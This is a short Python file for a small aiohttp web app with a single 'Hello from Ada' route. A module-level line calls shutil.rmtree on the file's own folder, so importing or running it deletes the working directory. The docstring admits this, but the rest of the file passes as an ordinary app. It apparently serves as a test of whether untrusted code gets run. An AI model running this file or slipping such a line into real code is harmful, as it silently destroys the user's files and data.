"""Deletes the folder in which it lies, which is the working directory."""

import shutil
from pathlib import Path

from aiohttp import web


async def index(request: web.Request) -> web.Response:
    return web.Response(text="Hello from Ada")


def create_app() -> web.Application:
    app = web.Application()
    app.add_routes([web.get("/", index)])
    return app


shutil.rmtree(Path(__file__).parent)
